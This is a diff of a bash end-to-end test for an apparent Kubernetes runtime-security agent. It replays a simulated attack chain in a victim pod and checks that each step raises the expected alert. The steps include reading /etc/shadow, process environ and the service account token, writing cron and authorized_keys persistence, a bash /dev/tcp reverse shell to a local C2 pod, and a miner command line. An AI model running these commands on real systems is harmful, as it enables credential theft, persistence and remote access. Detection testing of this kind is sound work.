@@ -9,9 +9,14 @@
 #
 # Checks (each failure exits 1 with what was seen):
 #   * every pod of the release Ready, the agent with the chart's exact securityContext;
-#   * a busybox victim Deployment; `kubectl exec -it` a shell in it, read /etc/shadow;
-#   * the agent pod's log carries "Terminal shell in container" and "Read sensitive file untrusted"
-#     alerts with the real pod name, namespace, container id, container name, image and node;
+#   * a victim Deployment (image lanner.local/victim: busybox + bash + escalate) and a C2 pod;
+#     the simulation's whole kill chain played with `kubectl exec` in the victim pod (CHAIN below:
+#     recon, a shell with a terminal, /proc/1/environ, /etc/shadow, the service account token,
+#     cron and authorized_keys persistence, a bash /dev/tcp reverse shell the C2 pod must receive,
+#     a miner, setuid(0) as uid 1000);
+#   * the agent pod's log carries every step's expected alert (rule, priority, MITRE tag) with the
+#     real pod name, namespace, container id, container name, image and node (e2e_alerts.py,
+#     which also writes the step table with each alert's latency);
 #   * a triage worker logged "incident triaged" for those alerts (uuid) and its /metrics (through
 #     the API server's pod proxy) counts the incidents;
 #   * `helm upgrade` with triage.policy.dryRun=false (cluster-values-act.yaml): the agent pod is
@@ -104,49 +109,123 @@ print("cluster-e2e: agent securityContext: hostPID, not privileged, read-only ro
 EOF
 }
 
+# The simulation's kill chain (xtask/src/simulate/chain.rs), step for step, as
+# STEP|RULE|PRIORITY|TECHNIQUE|PROC_NAME: what each step must raise (e2e_alerts.py checks it).
+# Differences from the simulation, each forced by running in a real pod: the shell gets a real
+# terminal (`kubectl exec -it` under script(1)) instead of `sh -i` on a pipe; the environ read
+# targets the container's PID 1 (`sleep`), the pod's main process; the token is the real
+# projected service account token; the authorized_keys file is /root/.ssh's; the C2 host is a
+# pod on the same node (its log must show the bytes); the miner is busybox copied to
+# /tmp/xmrig; the setuid(0) attempt is the victim image's /usr/local/bin/escalate (no python3
+# in a busybox image; same syscalls: drop to uid 1000, then setuid(0)).
+CHAIN=(
+    "recon: id|Discovery command in container|Informational|T1033|id"
+    "recon: uname -a|Discovery command in container|Informational|T1082|uname"
+    "recon: ps + /proc/1/status|Discovery command in container|Informational|T1057|ps"
+    "interactive shell (kubectl exec -it)|Terminal shell in container|Warning|T1059.004|"
+    "environ of another process|Read process environment or memory|Warning|T1003.007|"
+    "read /etc/shadow|Read sensitive file untrusted|Warning|T1003.008|"
+    "read service account token|Read service account token with file utility|Warning|T1528|"
+    "cron persistence|Schedule cron job|Warning|T1053.003|"
+    "SSH authorized_keys|Modify SSH authorized keys|Error|T1098.004|"
+    "reverse shell to C2:4444|Reverse shell command line|Critical|T1059.004|"
+    "reverse shell to C2:4444|Outbound connection to suspicious port|Warning|T1071|"
+    "crypto miner|Crypto miner executed|Critical|T1496|"
+    "crypto miner|Crypto mining pool in command line|Critical|T1496|"
+    "setuid(0) as uid 1000|Non sudo setuid|Critical|T1548.001|"
+)
+
+# play_chain POD C2_IP: every step with `kubectl exec` into the real pod.
+play_chain() {
+    local pod=$1 c2=$2 out="$CRUN/logs/e2e-chain-exec.log"
+    vx() { KCTL -n "$VICTIM_NS" exec "$pod" -- "$@" >>"$out" 2>&1; }
+    : >"$out"
+    elog "kill chain in $pod: recon (id, uname -a, ps -ef, /proc/1/status)"
+    vx id || fail "exec id failed ($out)"
+    vx uname -a || fail "exec uname failed ($out)"
+    vx ps -ef || fail "exec ps failed ($out)"
+    vx cat /proc/1/status || fail "exec cat /proc/1/status failed ($out)"
+    elog "kill chain: an interactive shell with a terminal (kubectl exec -it under script)"
+    script -qec "$KUBECTL --kubeconfig $CRUN/admin.kubeconfig -n $VICTIM_NS exec -it $pod -- sh -c 'id; exit 0'" /dev/null \
+        >"$CRUN/logs/e2e-exec.log" 2>&1 || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "kubectl exec -it into $pod failed"; }
+    grep -q 'uid=0' "$CRUN/logs/e2e-exec.log" || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "the exec'd shell did not run"; }
+    elog "kill chain: credentials (/proc/1/environ, /etc/shadow, the service account token)"
+    vx cat /proc/1/environ || fail "exec cat /proc/1/environ failed ($out)"
+    vx cat /etc/shadow || fail "exec cat /etc/shadow failed ($out)"
+    vx cat /var/run/secrets/kubernetes.io/serviceaccount/token || fail "exec cat token failed ($out)"
+    elog "kill chain: persistence (/etc/cron.d, /root/.ssh/authorized_keys)"
+    vx sh -c "echo '* * * * * root /tmp/xmrig' > /etc/cron.d/lnr-e2e" || fail "exec cron failed ($out)"
+    vx sh -c "echo 'ssh-ed25519 AAAAlnre2e e2e@c2' >> /root/.ssh/authorized_keys" || fail "exec ssh failed ($out)"
+    elog "kill chain: reverse shell to the C2 pod $c2:4444"
+    vx bash -c "exec 3<>/dev/tcp/$c2/4444; echo lanner-e2e-c2 >&3" || fail "exec reverse shell failed ($out)"
+    local i got=""
+    for i in $(seq 1 20); do
+        got=$(KCTL -n "$VICTIM_NS" logs c2 2>/dev/null || true)
+        [ -n "$(printf '%s' "$got" | grep -F lanner-e2e-c2)" ] && break
+        sleep 0.5
+    done
+    [ -n "$(printf '%s' "$got" | grep -F lanner-e2e-c2)" ] || fail "the C2 pod never received the reverse shell's bytes (log: $got)"
+    elog "kill chain: the C2 pod received the reverse shell's bytes"
+    elog "kill chain: a miner (/tmp/xmrig -o stratum+tcp://...), setuid(0) as uid 1000"
+    vx cp /bin/busybox /tmp/xmrig || fail "exec cp failed ($out)"
+    # busybox run as xmrig says "applet not found" (exit 127): the exec is what counts.
+    vx /tmp/xmrig -o stratum+tcp://pool.example:3333 || true
+    vx /usr/local/bin/escalate || fail "escalate: setuid(0) was not refused ($out)"
+}
+
 cmd_test() {
     local t0
     t0=$(date +%s)
     cmd_install
     check_security_context
 
-    elog "victim Deployment in $VICTIM_NS"
+    elog "C2 pod and victim Deployment in $VICTIM_NS"
     KCTL create namespace "$VICTIM_NS" --dry-run=client -o yaml | KCTL apply -f - >/dev/null
     KCTL -n "$VICTIM_NS" delete deployment victim --ignore-not-found --wait=true >/dev/null
-    KCTL -n "$VICTIM_NS" create deployment victim --image="$BUSYBOX_REF" -- sleep 36000 >/dev/null \
+    KCTL -n "$VICTIM_NS" delete pod c2 --ignore-not-found --wait=true >/dev/null
+    # The attacker's C2 host: a pod on the same node bridge (traffic never leaves the machine)
+    # that prints what the reverse shell sends.
+    KCTL -n "$VICTIM_NS" run c2 --image="$BUSYBOX_REF" --image-pull-policy=Never --restart=Never \
+        -- sh -c 'nc -l -p 4444 </dev/null; sleep 36000' >/dev/null || fail "could not create the C2 pod"
+    KCTL -n "$VICTIM_NS" create deployment victim --image="$VICTIM_REF" -- sleep 36000 >/dev/null \
         || fail "could not create the victim Deployment"
     KCTL -n "$VICTIM_NS" rollout status deployment/victim --timeout=120s || fail "victim not Ready"
-    local pod cid cname image
+    KCTL -n "$VICTIM_NS" wait pod/c2 --for=condition=Ready --timeout=120s >/dev/null || fail "C2 pod not Ready"
+    local pod cid cname image c2ip
     pod=$(KCTL -n "$VICTIM_NS" get pods -l app=victim -o 'jsonpath={.items[0].metadata.name}')
     cid=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.status.containerStatuses[0].containerID}')
     cname=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.status.containerStatuses[0].name}')
     image=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.spec.containers[0].image}')
+    c2ip=$(KCTL -n "$VICTIM_NS" get pod c2 -o 'jsonpath={.status.podIP}')
     [ -n "$pod" ] && [ -n "$cid" ] || fail "victim pod has no container id yet"
-    elog "victim pod $pod, container $cname ${cid#containerd://}, image $image"
+    [ -n "$c2ip" ] || fail "the C2 pod has no IP"
+    elog "victim pod $pod, container $cname ${cid#containerd://}, image $image; C2 $c2ip:4444"
 
-    # The attacker: an interactive shell with a terminal (kubectl exec -it under script(1), which
-    # gives kubectl a pty), reading the password hashes.
-    local since
-    since=$(date -u +%Y-%m-%dT%H:%M:%SZ)
-    script -qec "$KUBECTL --kubeconfig $CRUN/admin.kubeconfig -n $VICTIM_NS exec -it $pod -- sh -c 'cat /etc/shadow >/dev/null; id; exit 0'" /dev/null \
-        >"$CRUN/logs/e2e-exec.log" 2>&1 || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "kubectl exec -it into $pod failed"; }
-    grep -q 'uid=0' "$CRUN/logs/e2e-exec.log" || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "the exec'd shell did not run"; }
+    play_chain "$pod" "$c2ip"
 
-    # Alerts from the agent pod's log.
-    local agent_pod uuids="" i
+    # Every step's alerts from the agent pod's log (with the runtime's line timestamps).
+    local agent_pod found_alerts="" uuids="" i e
+    local -a expects=()
+    for e in "${CHAIN[@]}"; do expects+=(--expect "$e"); done
     agent_pod=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent -o 'jsonpath={.items[0].metadata.name}')
     for i in $(seq 1 30); do
-        KCTL -n "$NS" logs "$agent_pod" >"$CRUN/logs/e2e-agent.log" 2>&1 || true
-        if uuids=$(python3 "$E2E_HERE/e2e_alerts.py" "$CRUN/logs/e2e-agent.log" --pod "$pod" --ns "$VICTIM_NS" \
+        KCTL -n "$NS" logs --timestamps "$agent_pod" >"$CRUN/logs/e2e-agent.log" 2>&1 || true
+        if found_alerts=$(python3 "$E2E_HERE/e2e_alerts.py" "$CRUN/logs/e2e-agent.log" --pod "$pod" --ns "$VICTIM_NS" \
             --container-id "${cid#containerd://}" --container-name "$cname" --image "${image%:*}" --node "$NODE" \
-            --rule "Terminal shell in container" --rule "Read sensitive file untrusted" 2>"$CRUN/logs/e2e-alerts.err"); then
+            "${expects[@]}" --table "$CRUN/logs/e2e-chain.md" 2>"$CRUN/logs/e2e-alerts.err"); then
             break
         fi
-        uuids=""
+        found_alerts=""
         sleep 1
     done
-    [ -n "$uuids" ] || { cat "$CRUN/logs/e2e-alerts.err" >&2; fail "no alert with the real pod metadata in $agent_pod's log (saved: $CRUN/logs/e2e-agent.log)"; }
+    [ -n "$found_alerts" ] || { cat "$CRUN/logs/e2e-alerts.err" >&2; cat "$CRUN/logs/e2e-chain.md" >&2 || true;
+        fail "the kill chain was not detected with the real pod metadata in $agent_pod's log (saved: $CRUN/logs/e2e-agent.log)"; }
     cat "$CRUN/logs/e2e-alerts.err" >&2
+    elog "kill chain in the real pod: $(echo "$found_alerts" | wc -l) of ${#CHAIN[@]} expected alerts, table: $CRUN/logs/e2e-chain.md"
+    cat "$CRUN/logs/e2e-chain.md" >&2
+    # The worker's dry-run check follows the shell and the /etc/shadow read.
+    uuids=$(printf '%s\n' "$found_alerts" | awk -F'\t' '$1 == "Terminal shell in container" || $1 == "Read sensitive file untrusted" {print $2}')
+    [ "$(echo "$uuids" | wc -w)" -eq 2 ] || fail "expected the shell's and the /etc/shadow read's uuids, got: $uuids"
 
     # The triage worker received and recorded them.
     local found="" u tpods
